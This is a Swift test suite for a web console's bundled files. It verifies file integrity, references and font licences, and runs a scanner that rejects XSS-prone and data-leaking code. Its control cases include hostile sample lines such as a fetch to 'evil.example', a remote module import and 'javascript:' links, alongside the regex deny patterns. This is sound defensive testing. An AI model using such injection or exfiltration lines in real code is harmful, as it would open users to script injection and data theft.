import Console
import Foundation
import Testing

@Suite("The console's files")
struct ConsoleSourceTests {
    private static let folder = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../../Console/App")
        .standardizedFileURL.path

    @Test("the program contains every file of the folder, unchanged, and no other")
    func whole() throws {
        let names = try FileManager.default.subpathsOfDirectory(atPath: Self.folder).filter { !URL(filePath: $0).pathExtension.isEmpty }
        #expect(Set(names) == Set(ConsoleFile.all.map(\.path)) && names.count == ConsoleFile.all.count)
        for file in ConsoleFile.all {
            #expect(FileManager.default.contents(atPath: "\(Self.folder)/\(file.path)") == Data(file.bytes), "\(file.path)")
        }
    }

    @Test("every file that a page, a style sheet or a module refers to exists")
    func references() throws {
        let paths = Set(ConsoleFile.all.map(\.path) + [""])
        var found = 0
        for file in ConsoleFile.all {
            for name in Self.references(in: file) {
                found += 1
                let base = URL(string: "http://here/console/\(file.path)")!
                let path = try #require(URL(string: name, relativeTo: base)?.absoluteURL.path)
                #expect(path.hasPrefix("/console") && paths.contains(String(path.dropFirst("/console/".count))), "\(file.path): \(name)")
            }
        }
        #expect(found > 60)
    }

    private static func references(in file: ConsoleFile) -> [String] {
        let text = String(decoding: file.bytes, as: UTF8.self)
        switch URL(filePath: file.path).pathExtension {
        case "html": return text.matches(of: /(?:src|href)="([^"#]+)"/).map { String($0.1) }
        case "js": return text.matches(of: /\bfrom "([^"]+)"|\bimport\("?([^)"]+)/).map { String($0.1 ?? $0.2 ?? "") }
        case "css": return text.matches(of: /url\(([^)]+)\)|@import ([^;]+)/).map { String($0.1 ?? $0.2 ?? "") }
        default: return []
        }
    }

    @Test("the fonts are small and name their licence")
    func fonts() throws {
        let fonts = ConsoleFile.all.filter { $0.path.hasSuffix(".woff2") }
        #expect(fonts.count == 5 && fonts.allSatisfy { $0.bytes.starts(with: Array("wOF2".utf8)) })
        #expect(fonts.map(\.bytes.count).reduce(0, +) < 200_000)
        for font in fonts {
            let family = try #require(font.path.split(separator: "/").last?.split(separator: "-").first)
            let licence = try String(contentsOfFile: "\(Self.folder)/../../../docs/licences/\(family).txt", encoding: .utf8)
            #expect(licence.contains("SIL OPEN FONT LICENSE Version 1.1") && licence.contains("Server/Console/App/fonts/"))
        }
    }

    @Test("console files turn text only into text nodes: no markup, evaluation, inline code or style, storage, or other server")
    func nothingForbidden() {
        // Skip the fonts: they are compressed, so they contain no text to check.
        for file in ConsoleFile.all where !file.path.hasSuffix(".woff2") {
            #expect(Self.faults(in: String(decoding: file.bytes, as: UTF8.self), path: file.path) == [], "\(file.path)")
        }
    }

    @Test(
        "control: the check reports each of these",
        arguments: [
            ("a.js", "node.innerHTML = text"), ("a.js", "node.outerHTML"), ("a.js", "node.insertAdjacentHTML('x', y)"),
            ("a.js", "document.write(x)"),
            ("a.js", "eval(x)"), ("a.js", "new Function(x)"), ("a.js", "setTimeout(\"x()\", 1)"),
            ("a.js", "range.createContextualFragment(x)"),
            ("a.js", "new DOMParser()"), ("a.js", "node.setHTMLUnsafe(x)"), ("a.js", "node.srcdoc = x"), ("a.js", "localStorage.token = x"),
            ("a.js", "sessionStorage.x"), ("a.js", "document.cookie"), ("a.js", "fetch('https://evil.example')"),
            ("a.js", "`//evil.example/x`"),
            ("a.js", "import \"http://evil.example/x.js\""), ("a.js", "link.href = 'javascript:x'"), ("a.html", "<p onclick=\"x\">"),
            ("a.html", "<p style=\"x\">"), ("a.html", "<script>x</script>"), ("a.html", "<style>x</style>"),
            ("a.svg", "<svg><script/></svg>"),
            ("a.css", "url(https://evil.example/x)"), ("a.js", "node.setAttribute(\"style\", x)"),
        ])
    func aFault(_ path: String, _ text: String) {
        #expect(Self.faults(in: text, path: path) != [])
    }

    private static func faults(in text: String, path: String) -> [String] {
        // The address of the SVG namespace is only a name, which browsers do not load.
        let text = text.replacing("http://www.w3.org/2000/svg", with: "")
        var patterns = [
            #"\b(https?|wss?|ftp)://|["'`(]//|javascript:|data:text"#
        ]
        switch URL(filePath: path).pathExtension {
        case "js":
            patterns += [
                #"innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|DOMParser|HTMLUnsafe|srcdoc|document\.write"#,
                #"\beval\b|\bFunction\(|set(Timeout|Interval)\(\s*["'`]"#,
                #"localStorage|sessionStorage|indexedDB|document\.cookie"#,
                #"setAttribute\(\s*["'`](style|on)"#,
            ]
        case "css": break
        default: patterns += [#"\son[a-z]+\s*="#, #"\sstyle\s*="#, #"<style"#, #"<script(?![^>]*\ssrc=)"#]
        }
        return patterns.filter { text.range(of: $0, options: .regularExpression) != nil }
    }
}
